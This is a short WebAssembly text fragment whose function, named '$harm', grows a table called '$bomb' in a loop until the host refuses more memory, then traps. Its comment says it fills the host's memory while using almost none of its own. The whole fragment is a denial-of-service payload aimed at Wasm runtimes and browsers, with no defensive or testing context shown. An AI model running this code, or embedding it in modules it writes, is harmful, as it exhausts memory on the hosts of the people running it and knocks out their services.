;; Needs next to no memory of its own: it fills the host's with a table.
(table $bomb 1 funcref)
(func $harm (param i32 i32 i32 i32) (result i32)
  (loop $again
    (br_if $again (i32.ne (i32.const -1) (table.grow $bomb (ref.null func) (i32.const 100000)))))
  (unreachable))
